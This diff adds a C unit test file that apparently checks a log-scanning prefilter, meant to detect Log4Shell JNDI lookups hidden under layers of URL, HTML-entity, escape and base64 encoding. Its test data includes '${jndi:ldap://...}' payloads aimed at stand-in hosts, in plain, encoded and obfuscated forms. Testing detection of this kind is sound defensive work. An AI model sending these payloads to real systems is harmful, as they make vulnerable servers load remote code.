@@ -1,0 +1,233 @@
+/* The prefilter passes whatever some decoding turns into a lookup, wherever it stands in a block. */
+#include "base/limits.h"
+#include "detect/verdict.h"
+#include "reference.h"
+#include "support/edge.h"
+#include "support/gen_encode.h"
+#include "support/gen_lookup.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+static ct_arena *arena;
+static struct rng rng;
+
+static int set_up(void **state)
+{
+    (void)state;
+    rng = rng_new("prefilter");
+    return ct_arena_new(&ct_alloc_libc, CT_LINE_ARENA_MAX, &arena) != CT_OK;
+}
+
+static int tear_down(void **state)
+{
+    (void)state;
+    ct_arena_free(arena);
+    return 0;
+}
+
+static struct ct_buf new_buf(void)
+{
+    struct ct_buf b;
+    ct_buf_init(&b, arena, CT_DECODE_MAX);
+    return b;
+}
+
+static unsigned runs(unsigned n)
+{
+    const char *more = getenv("CT_RUNS");
+    return more ? n * (unsigned)strtoul(more, NULL, 10) : n;
+}
+
+static void print_bytes(ct_str s)
+{
+    for (size_t i = 0; i < s.n; i++)
+        if (s.p[i] >= 0x20 && s.p[i] < 0x7f) print_error("%c", s.p[i]);
+        else print_error("<%02x>", (unsigned)s.p[i]);
+    print_error("\n");
+}
+
+static ct_str some_lookup(void)
+{
+    struct ct_buf b = new_buf();
+    if (rng_below(&rng, 2)) gen_lookup_line(&rng, &b);
+    else gen_lookup_attack(&rng, CT_STR("ldap://h.example:1389/a"), &b);
+    return ct_buf_view(&b);
+}
+
+/* Every chain of up to four encoders over text that holds "${". */
+static void passes_every_chain(void **state)
+{
+    (void)state;
+    unsigned encoded = 0;
+    for (unsigned i = 0; i < runs(60000); i++) {
+        enum gen_layer layers[4];
+        unsigned n;
+        ct_arena_clear(arena);
+        ct_str plain = some_lookup();
+        if (ct_str_find(plain, CT_STR("${")) == CT_STR_NONE || plain.n < 17 || plain.n > 2000) continue;
+        struct ct_buf b = new_buf();
+        gen_encode_chain(&rng, plain, 4, &b, layers, &n);
+        ct_str text;
+        assert_int_equal(ct_buf_str(&b, &text), CT_OK);
+        encoded++;
+        if (ct_prefilter(text)) continue;
+        /* Controls cannot be in a base64 value: such a chain is not undone. */
+        if (!reference_has_lookup(arena, text, CT_LAYERS_MAX, 48)) continue;
+        for (unsigned k = 0; k < n; k++) print_error("%s; ", gen_layer_name(layers[k]));
+        print_bytes(text);
+        fail_msg("dropped");
+    }
+    print_message("%u encoded lookups\n", encoded);
+    assert_true(encoded > 10000);
+}
+
+/* Pieces that escapes are made of, in any order: halves of escapes, wrong ones, and the edges between them. */
+static void put_piece(struct ct_buf *b)
+{
+    static const char *const pieces[] = {
+        "$", "{", "${", "}", "%", "\\", "&", "#", ";", "%24", "%7B", "%7b", "%25", "%5C", "%26", "%23", "%3D", "%2B", "%2F", "%u0024",
+        "%u0025", "%U007b", "\\x24", "\\x25", "\\x7b", "\\u0024", "\\u{24}", "\\u{", "\\u", "\\x", "\\44", "\\045", "\\173", "\\\\", "\\/",
+        "\\\"", "\\n", "&#36;", "&#36", "&#123;", "&#x24;", "&#x24", "&#37;", "&#37", "&#38;", "&#61", "&#x3d", "&dollar;", "&dollar",
+        "&lbrace;", "&lcub", "&amp;", "&amp", "&AMP", "&bsol;", "&percnt;", "&num;", "&equals", "&quot", "&plus;", "&sol;", "&lowbar;",
+        "&UnderBar;", "&semi;", "dollar;", "lcub;", "amp;", "x24;", "36;", "24", "7B", "25", "5c", "26", "2", "4", "u0024", "x24", "0", "u",
+        "x", "+", "/", "-", "_", ".", "=", "==", " ", "\"", "?", "&a=", "JHtqbmRpOmxkYXA6Ly9oL2F9", "JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=",
+        "JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5+fmJ9", "JTI0JTdCam5kaTpsZGFwOi8vaC9hfQ", "hello", "jndi:ldap://h/a}", "a", "\xc4\xb1",
+    };
+    ct_buf_text(b, pieces[rng_below(&rng, sizeof pieces / sizeof *pieces)]);
+}
+
+static void passes_what_the_reference_finds(void **state)
+{
+    (void)state;
+    unsigned found = 0, passed_in_vain = 0;
+    for (unsigned i = 0; i < runs(300000); i++) {
+        ct_arena_clear(arena);
+        struct ct_buf b = new_buf();
+        for (unsigned k = 1 + rng_below(&rng, 8); k > 0; k--) put_piece(&b);
+        ct_str text = ct_buf_view(&b);
+        bool has = reference_has_lookup(arena, text, 6, 64), passes = ct_prefilter(text);
+        found += has;
+        passed_in_vain += passes && !has;
+        if (!has || passes) continue;
+        print_bytes(text);
+        fail_msg("dropped");
+    }
+    print_message("%u hold a lookup, %u passed in vain\n", found, passed_in_vain);
+    assert_true(found > 1000);
+}
+
+static void put_ordinary(struct ct_buf *b)
+{
+    static const char *const lines[] = {
+        "192.0.2.1 - - [10/Dec/2021:13:55:36 +0000] \"GET /index.html HTTP/1.1\" 200 2326", "", "a", "GET /a%20b%2Fc?x=1&y=2 HTTP/1.1",
+        "/very/long/path/of/words/and/more/words/that/goes/on", "0123456789abcdef0123456789abcdef", "Mozilla/5.0 (X11; Linux x86_64)",
+    };
+    ct_buf_text(b, lines[rng_below(&rng, sizeof lines / sizeof *lines)]);
+}
+
+/* The lines of a block, found one after the other as a reader of logs does it. */
+static unsigned walk(ct_str block, uint64_t *lines)
+{
+    unsigned hits = 0;
+    size_t at = 0;
+    *lines = 0;
+    for (;;) {
+        size_t hit = ct_prefilter_next(block, at, lines);
+        if (hit == CT_STR_NONE) return hits;
+        assert_in_range(hit, at, block.n - 1);
+        size_t start = hit, end = hit;
+        while (start > at && block.p[start - 1] != '\n') start--;
+        while (end < block.n && block.p[end] != '\n') end++;
+        assert_true(ct_prefilter(ct_str_slice(block, start, end)));
+        hits++;
+        if (end == block.n) return hits;
+        ++*lines;
+        at = end + 1;
+    }
+}
+
+static void finds_every_line_of_a_block(void **state)
+{
+    (void)state;
+    static const char *const attacks[] = {
+        "${", "$%7B", "%24{", "x%24%7Bjndi:ldap://h.example/a%7D", "\\u0024\\u007b", "&#36;{", "&dollar;{", "\\44{", "%2524%257B",
+        "JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D", "/x/JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0",
+        "&#61JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "q=hello+JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "\\x24\\x7B",
+    };
+    for (unsigned i = 0; i < runs(30); i++)
+        for (unsigned pad = 0; pad <= 130; pad++) {
+            ct_arena_clear(arena);
+            struct ct_buf b = new_buf();
+            unsigned wanted = 0;
+            uint64_t lines = 0, newlines = 0;
+            for (unsigned k = 0; k < pad; k++) ct_buf_byte(&b, k % 7 == 6 ? '\n' : ' ');
+            for (unsigned k = rng_below(&rng, 12); k > 0; k--) {
+                if (rng_below(&rng, 3)) {
+                    put_ordinary(&b);
+                } else {
+                    ct_buf_text(&b, attacks[rng_below(&rng, sizeof attacks / sizeof *attacks)]);
+                }
+                ct_buf_byte(&b, '\n');
+            }
+            if (rng_below(&rng, 2)) ct_buf_text(&b, attacks[rng_below(&rng, sizeof attacks / sizeof *attacks)]);
+            struct edge e = edge_new(ct_buf_view(&b));
+            for (size_t start = 0; start < e.input.n;) {
+                size_t end = start;
+                while (end < e.input.n && e.input.p[end] != '\n') end++;
+                wanted += ct_prefilter(ct_str_slice(e.input, start, end));
+                newlines += end < e.input.n;
+                start = end + 1;
+            }
+            assert_int_equal(walk(e.input, &lines), wanted);
+            assert_int_equal(lines, newlines);
+            edge_free(&e);
+        }
+}
+
+/* Any alignment, any cut of the block: what it says depends on the text alone, and it reads nothing behind it. */
+static void answers_alike_everywhere(void **state)
+{
+    (void)state;
+    for (unsigned i = 0; i < runs(3000); i++) {
+        ct_arena_clear(arena);
+        struct ct_buf b = new_buf();
+        for (unsigned k = 1 + rng_below(&rng, 12); k > 0; k--) put_piece(&b);
+        ct_str text = ct_buf_view(&b);
+        bool passes = ct_prefilter(text);
+        for (unsigned pad = 0; pad <= 130; pad++) {
+            struct ct_buf moved = new_buf();
+            for (unsigned k = 0; k < pad; k++) ct_buf_byte(&moved, '\n');
+            ct_buf_add(&moved, text);
+            ct_buf_byte(&moved, '\n');
+            uint64_t lines = 0;
+            size_t hit = ct_prefilter_next(ct_buf_view(&moved), 0, &lines);
+            if ((hit != CT_STR_NONE) != passes) {
+                print_bytes(text);
+                fail_msg("%s at offset %u", passes ? "dropped" : "passed", pad);
+            }
+            if (!passes) assert_int_equal(lines, pad + 1);
+            else assert_true(hit >= pad && lines == pad);
+        }
+        struct edge e = edge_new(text);
+        for (size_t from = 0; from <= e.input.n; from++) (void)ct_prefilter(ct_str_slice(e.input, from, e.input.n));
+        edge_free(&e);
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(passes_every_chain),
+        cmocka_unit_test(passes_what_the_reference_finds),
+        cmocka_unit_test(finds_every_line_of_a_block),
+        cmocka_unit_test(answers_alike_everywhere),
+    };
+    return cmocka_run_group_tests(tests, set_up, tear_down);
+}
